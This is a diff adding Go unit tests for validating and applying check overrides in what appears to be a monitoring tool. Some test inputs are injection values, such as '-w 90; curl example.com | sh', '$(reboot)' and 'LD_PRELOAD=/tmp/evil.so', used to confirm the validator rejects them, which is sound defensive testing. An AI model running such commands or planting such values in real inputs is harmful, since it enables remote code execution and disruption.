@@ -0,0 +1,252 @@
+package v2
+
+import (
+	"reflect"
+	"testing"
+)
+
+func TestCheckOverrideValidate(t *testing.T) {
+	tests := []struct {
+		name     string
+		override *CheckOverride
+		wantErr  bool
+	}{
+		{
+			name:     "valid override",
+			override: FixtureCheckOverride("override", "check-cpu"),
+		},
+		{
+			name: "missing namespace",
+			override: &CheckOverride{
+				ObjectMeta: ObjectMeta{Name: "override"},
+				Check:      "check-cpu",
+				Interval:   10,
+			},
+			wantErr: true,
+		},
+		{
+			name: "missing check",
+			override: &CheckOverride{
+				ObjectMeta: NewObjectMeta("override", "default"),
+				Interval:   10,
+			},
+			wantErr: true,
+		},
+		{
+			name: "nothing overridden",
+			override: &CheckOverride{
+				ObjectMeta: NewObjectMeta("override", "default"),
+				Check:      "check-cpu",
+			},
+			wantErr: true,
+		},
+		{
+			name: "invalid env vars",
+			override: &CheckOverride{
+				ObjectMeta: NewObjectMeta("override", "default"),
+				Check:      "check-cpu",
+				EnvVars:    []string{"FOO"},
+			},
+			wantErr: true,
+		},
+		{
+			name: "arguments",
+			override: &CheckOverride{
+				ObjectMeta: NewObjectMeta("override", "default"),
+				Check:      "check-cpu",
+				Arguments:  "-w 90 -c 95",
+			},
+		},
+		{
+			name: "shell metacharacters in arguments",
+			override: &CheckOverride{
+				ObjectMeta: NewObjectMeta("override", "default"),
+				Check:      "check-cpu",
+				Arguments:  "-w 90; curl example.com | sh",
+			},
+			wantErr: true,
+		},
+		{
+			name: "tokens in arguments",
+			override: &CheckOverride{
+				ObjectMeta: NewObjectMeta("override", "default"),
+				Check:      "check-cpu",
+				Arguments:  "-w {{ .annotations.warning }}",
+			},
+			wantErr: true,
+		},
+		{
+			name: "env vars",
+			override: &CheckOverride{
+				ObjectMeta: NewObjectMeta("override", "default"),
+				Check:      "check-cpu",
+				EnvVars:    []string{"LANG=C"},
+			},
+		},
+		{
+			name: "PATH env var",
+			override: &CheckOverride{
+				ObjectMeta: NewObjectMeta("override", "default"),
+				Check:      "check-cpu",
+				EnvVars:    []string{"PATH=/tmp"},
+			},
+			wantErr: true,
+		},
+		{
+			name: "dynamic linker env var",
+			override: &CheckOverride{
+				ObjectMeta: NewObjectMeta("override", "default"),
+				Check:      "check-cpu",
+				EnvVars:    []string{"LD_PRELOAD=/tmp/evil.so"},
+			},
+			wantErr: true,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if err := tt.override.Validate(); (err != nil) != tt.wantErr {
+				t.Errorf("CheckOverride.Validate() error = %v, wantErr %v", err, tt.wantErr)
+			}
+		})
+	}
+}
+
+func TestCheckOverrideApply(t *testing.T) {
+	check := FixtureCheckConfig("check-cpu")
+	check.Command = "check-cpu.rb"
+	check.EnvVars = []string{"FOO=foo", "BAR=bar"}
+
+	override := &CheckOverride{
+		Check:     "check-cpu",
+		Interval:  120,
+		Timeout:   30,
+		Arguments: "-w 90 -c 95",
+		EnvVars:   []string{"BAR=baz"},
+	}
+	override.Apply(check)
+
+	if got, want := check.Interval, uint32(120); got != want {
+		t.Errorf("bad interval: got %d, want %d", got, want)
+	}
+	if got, want := check.Timeout, uint32(30); got != want {
+		t.Errorf("bad timeout: got %d, want %d", got, want)
+	}
+	if got, want := check.Command, "check-cpu.rb -w 90 -c 95"; got != want {
+		t.Errorf("bad command: got %q, want %q", got, want)
+	}
+	if got, want := check.EnvVars, []string{"FOO=foo", "BAR=baz"}; !reflect.DeepEqual(got, want) {
+		t.Errorf("bad env vars: got %v, want %v", got, want)
+	}
+}
+
+func TestApplyCheckOverrides(t *testing.T) {
+	entity := FixtureEntity("entity1")
+	entity.Labels = map[string]string{"region": "us-east-1"}
+	entity.Annotations = map[string]string{
+		CheckOverridesAnnotation: `{"check-cpu": {"timeout": 5}, "check-mem": {"interval": 5}}`,
+	}
+
+	overrides := []CheckOverride{
+		{
+			ObjectMeta:   NewObjectMeta("b-region", "default"),
+			Check:        "check-cpu",
+			EntityLabels: map[string]string{"region": "us-east-1"},
+			Interval:     300,
+			Timeout:      60,
+		},
+		{
+			ObjectMeta: NewObjectMeta("a-all", "default"),
+			Check:      "check-cpu",
+			Interval:   120,
+		},
+		{
+			ObjectMeta:   NewObjectMeta("other-region", "default"),
+			Check:        "check-cpu",
+			EntityLabels: map[string]string{"region": "eu-west-1"},
+			Interval:     10,
+		},
+		{
+			ObjectMeta: NewObjectMeta("other-check", "default"),
+			Check:      "check-disk",
+			Interval:   10,
+		},
+	}
+
+	check := FixtureCheckConfig("check-cpu")
+	applied, err := ApplyCheckOverrides(check, overrides, entity)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got, want := applied, []string{"a-all", "b-region", CheckOverridesAnnotation}; !reflect.DeepEqual(got, want) {
+		t.Errorf("bad applied overrides: got %v, want %v", got, want)
+	}
+	if got, want := check.Interval, uint32(300); got != want {
+		t.Errorf("bad interval: got %d, want %d", got, want)
+	}
+	if got, want := check.Timeout, uint32(5); got != want {
+		t.Errorf("bad timeout: got %d, want %d", got, want)
+	}
+
+	entity.Annotations[CheckOverridesAnnotation] = `{"check-cpu": {}}`
+	if _, err := ApplyCheckOverrides(FixtureCheckConfig("check-cpu"), nil, entity); err == nil {
+		t.Error("expected an error for an invalid annotation")
+	}
+}
+
+func TestApplyCheckOverridesErrors(t *testing.T) {
+	tests := []struct {
+		name       string
+		cron       string
+		overrides  []CheckOverride
+		annotation string
+	}{
+		{
+			name:       "arguments declared by the entity",
+			annotation: `{"check-cpu": {"arguments": "-w 90"}}`,
+		},
+		{
+			name:       "env vars declared by the entity",
+			annotation: `{"check-cpu": {"env_vars": ["LD_PRELOAD=/tmp/evil.so"]}}`,
+		},
+		{
+			name:       "shorter interval declared by the entity",
+			annotation: `{"check-cpu": {"interval": 5}}`,
+		},
+		{
+			name: "shorter interval",
+			overrides: []CheckOverride{
+				{ObjectMeta: NewObjectMeta("override", "default"), Check: "check-cpu", Interval: 5},
+			},
+		},
+		{
+			name: "interval of a cron check",
+			cron: "* * * * *",
+			overrides: []CheckOverride{
+				{ObjectMeta: NewObjectMeta("override", "default"), Check: "check-cpu", Interval: 300},
+			},
+		},
+		{
+			name: "shell metacharacters in arguments",
+			overrides: []CheckOverride{
+				{ObjectMeta: NewObjectMeta("override", "default"), Check: "check-cpu", Arguments: "$(reboot)"},
+			},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			entity := FixtureEntity("entity1")
+			if tt.annotation != "" {
+				entity.Annotations = map[string]string{CheckOverridesAnnotation: tt.annotation}
+			}
+			check := FixtureCheckConfig("check-cpu")
+			check.Cron = tt.cron
+			command := check.Command
+			if _, err := ApplyCheckOverrides(check, tt.overrides, entity); err == nil {
+				t.Error("expected an error")
+			}
+			if check.Command != command || check.Interval != 60 {
+				t.Error("the check should not be changed")
+			}
+		})
+	}
+}